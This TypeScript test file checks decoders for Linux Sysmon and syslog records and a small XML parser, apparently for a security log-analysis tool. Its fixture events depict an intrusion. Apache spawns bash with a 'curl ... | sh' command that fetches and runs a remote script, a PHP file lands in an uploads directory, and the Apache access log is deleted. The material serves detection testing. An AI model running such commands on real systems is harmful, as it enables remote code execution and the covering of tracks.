import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sysmonLinuxDecoder } from '../../../src/input/text/sysmon-linux.js';
import { syslogDecoder } from '../../../src/input/text/syslog.js';
import { XmlError, parseXml, decodeEntities } from '../../../src/input/text/xml-lite.js';
import { SYSMON_LINUX, SYSLOG } from './fixtures.js';
import { decode, expecter, line } from './run-decoder.js';

const OPTS = { now: Date.UTC(2024, 5, 1), timezone: 'UTC' };
const ev = expecter('sysmon-linux');

/** The System members every fixture record shares, by event id / version / record id. */
function system(id: number, version: string, task: string, created: string, recordId: string): Record<string, string | number> {
  return {
    Provider_Name: 'Linux-Sysmon',
    Provider_Guid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}',
    EventID: id,
    Version: version,
    Level: '4',
    Task: task,
    Opcode: '0',
    Keywords: '0x8000000000000000',
    TimeCreated_SystemTime: created,
    EventRecordID: recordId,
    Execution_ProcessID: '812',
    Execution_ThreadID: '812',
    Channel: 'Linux-Sysmon/Operational',
    Computer: 'web01',
    Security_UserId: '0',
  };
}

const EXPECTED = [
  ev(
    {
      ...system(1, '5', '1', '2024-05-01T10:11:12.340112000Z', '4711'),
      RuleName: '-',
      UtcTime: '2024-05-01 10:11:12.339',
      ProcessGuid: '{1f2e3d4c-0a0b-6632-5c2e-3a1b00000000}',
      ProcessId: 31337,
      Image: '/usr/bin/bash',
      FileVersion: '-',
      Description: '-',
      Product: '-',
      Company: '-',
      OriginalFileName: '-',
      CommandLine: 'bash -c "id && curl -s http://198.51.100.7/x.sh | sh"',
      CurrentDirectory: '/var/www/html/uploads',
      User: 'www-data',
      LogonGuid: '{1f2e3d4c-0000-0000-2100-000000000000}',
      LogonId: '33',
      TerminalSessionId: 4294967295,
      IntegrityLevel: 'no level',
      Hashes: '-',
      ParentProcessGuid: '{1f2e3d4c-0a0b-6632-1d7e-8b6a00000000}',
      ParentProcessId: 1450,
      ParentImage: '/usr/sbin/apache2',
      ParentCommandLine: '/usr/sbin/apache2 -k start',
      ParentUser: 'www-data',
    },
    { product: 'linux', category: 'process_creation' },
    1,
    line(SYSMON_LINUX, 1),
    Date.UTC(2024, 4, 1, 10, 11, 12, 340),
    'web01',
  ),
  ev(
    {
      ...system(3, '5', '3', '2024-05-01T10:11:13.002000000Z', '4712'),
      RuleName: '-',
      UtcTime: '2024-05-01 10:11:13.001',
      ProcessGuid: '{1f2e3d4c-0a0b-6632-9f1a-e0c700000000}',
      ProcessId: 31338,
      Image: '/usr/bin/curl',
      User: 'www-data',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '10.0.0.5',
      SourceHostname: '-',
      SourcePort: 48512,
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: '198.51.100.7',
      DestinationHostname: '-',
      DestinationPort: 80,
      DestinationPortName: 'http',
    },
    { product: 'linux', category: 'network_connection' },
    2,
    line(SYSMON_LINUX, 2),
    Date.UTC(2024, 4, 1, 10, 11, 13, 2),
    'web01',
  ),
  ev(
    {
      ...system(11, '2', '11', '2024-05-01T10:11:14.090000000Z', '4713'),
      RuleName: '-',
      UtcTime: '2024-05-01 10:11:14.089',
      ProcessGuid: '{1f2e3d4c-0a0b-6632-9f1a-e0c700000000}',
      ProcessId: 31338,
      Image: '/usr/bin/curl',
      TargetFilename: '/var/www/html/uploads/<x>.php',
      CreationUtcTime: '2024-05-01 10:11:14.089',
      User: 'www-data',
    },
    { product: 'linux', category: 'file_event' },
    3,
    line(SYSMON_LINUX, 3),
    Date.UTC(2024, 4, 1, 10, 11, 14, 90),
    'web01',
  ),
  ev(
    {
      ...system(23, '5', '23', '2024-05-01T10:11:15.500000000Z', '4714'),
      RuleName: '-',
      UtcTime: '2024-05-01 10:11:15.499',
      ProcessGuid: '{1f2e3d4c-0a0b-6632-77aa-0b1c00000000}',
      ProcessId: 31340,
      User: 'www-data',
      Image: '/usr/bin/rm',
      TargetFilename: '/var/log/apache2/access.log',
      Hashes: '-',
      IsExecutable: 'false',
      Archived: 'false',
    },
    { product: 'linux', category: 'file_delete' },
    4,
    line(SYSMON_LINUX, 4),
    Date.UTC(2024, 4, 1, 10, 11, 15, 500),
    'web01',
  ),
  ev(
    {
      ...system(5, '3', '5', '2024-05-01T10:11:16.000000000Z', '4715'),
      RuleName: '-',
      UtcTime: '2024-05-01 10:11:15.999',
      ProcessGuid: '{1f2e3d4c-0a0b-6632-5c2e-3a1b00000000}',
      ProcessId: 31337,
      Image: '/usr/bin/bash',
      User: 'www-data',
    },
    { product: 'linux', category: 'process_termination' },
    5,
    line(SYSMON_LINUX, 5),
    Date.UTC(2024, 4, 1, 10, 11, 16),
    'web01',
  ),
  // Data Name="Version" collides with System's Version: the System member is kept.
  ev(
    {
      ...system(4, '3', '4', '2024-05-01T10:00:00.000000000Z', '1'),
      UtcTime: '2024-05-01 10:00:00.000',
      State: 'Started',
      SchemaVersion: '4.81',
    },
    { product: 'linux', service: 'sysmon' },
    6,
    line(SYSMON_LINUX, 6),
    Date.UTC(2024, 4, 1, 10),
    'web01',
  ),
];

test('decodes SYSMON_LINUX (RFC 5424 and RFC 3164 framing)', () => {
  const r = decode(sysmonLinuxDecoder, SYSMON_LINUX, 'sample.log', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(r.events, EXPECTED);
});

test('sysmon-linux: sniffing prefers it over syslog; syslog stays out', () => {
  const lines = SYSMON_LINUX.split('\n');
  assert.equal(sysmonLinuxDecoder.sniff(lines), 0.95);
  assert.equal(syslogDecoder.sniff(lines), 0);
  assert.equal(sysmonLinuxDecoder.sniff(SYSLOG.split('\n')), 0);
});

test('syslog decoder decodes Sysmon records found in a mixed syslog file', () => {
  const text = [line(SYSLOG, 2), line(SYSMON_LINUX, 2)].join('\n');
  const r = decode(syslogDecoder, text, 'syslog', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.equal(r.events.length, 2);
  assert.deepStrictEqual(r.events[0]!.logsource, { product: 'linux', service: 'syslog' });
  assert.deepStrictEqual(r.events[1], { ...EXPECTED[1], origin: { file: 'syslog', record: 2, format: 'syslog' } });
});

test('sysmon-linux: plain syslog lines pass through; broken XML is a problem with its line', () => {
  const broken = line(SYSMON_LINUX, 5).replace('</EventData>', '</EventDat>');
  const badEntity = line(SYSMON_LINUX, 5).replace('/usr/bin/bash', '/usr/bin/&bash;');
  const text = [line(SYSLOG, 2), broken, badEntity, 'garbage'].join('\n');
  const r = decode(sysmonLinuxDecoder, text, 'sample.log', OPTS);
  assert.equal(r.events.length, 1);
  assert.deepStrictEqual(r.events[0]!.fields, { Application: 'sshd', ProcessId: 4242, Host: 'web01', Message: 'Accepted publickey for deploy from 198.51.100.7 port 50000 ssh2' });
  // Offsets count from the start of the XML in the message.
  const xml = (l: string): string => l.slice(l.indexOf('<Event>'));
  assert.deepStrictEqual(
    r.problems.map((p) => [p.line, p.message.slice(0, p.message.indexOf('; skipped'))]),
    [
      [2, `bad Sysmon XML: </EventDat> does not close <EventData> at offset ${xml(broken).indexOf('</EventDat>') + 11}`],
      [3, `bad Sysmon XML: unknown entity &bash; at offset ${xml(badEntity).indexOf('&bash;')}`],
      [4, 'not a syslog line'],
    ],
  );
});

test('xml-lite: entities, character references, CDATA, comments, prolog, attributes in either quote', () => {
  const x = parseXml(`<?xml version="1.0"?> <a k='v &quot;1&quot;' j="&#65;&#x42;"><!-- c --><b>&lt;&gt;&amp;&apos;&#x1F600;</b><c/><![CDATA[<raw>]]></a> `);
  assert.deepStrictEqual(x, {
    name: 'a',
    attrs: [
      ['k', 'v "1"'],
      ['j', 'AB'],
    ],
    children: [{ name: 'b', attrs: [], children: ["<>&'😀"] }, { name: 'c', attrs: [], children: [] }, '<raw>'],
  });
  assert.equal(decodeEntities('x &amp;&amp; y', 0, 14), 'x && y');
  assert.equal(decodeEntities('[x &amp; y]', 1, 10), 'x & y');
});

test('xml-lite: malformed and hostile input throws XmlError, never anything else', () => {
  const bad = [
    '',
    'text',
    '<a>',
    '<a></b>',
    '<a b></a>',
    '<a b=c></a>',
    '<a>&#xD800;</a>',
    '<a>&#99999999;</a>',
    '<a>&nope;</a>',
    '<a>&amp</a>',
    '<a></a><b/>',
    '<a><!-- x</a>',
    '<!DOCTYPE a><a/>',
    '<a/>x',
  ];
  for (const b of bad) assert.throws(() => parseXml(b), XmlError, b);
  assert.throws(() => parseXml('<a>'.repeat(100) + '</a>'.repeat(100)), /nested deeper than 32/);
  assert.throws(() => parseXml(`<a>${'<b/>'.repeat(30000)}</a>`), /more than 20000 nodes/);
});
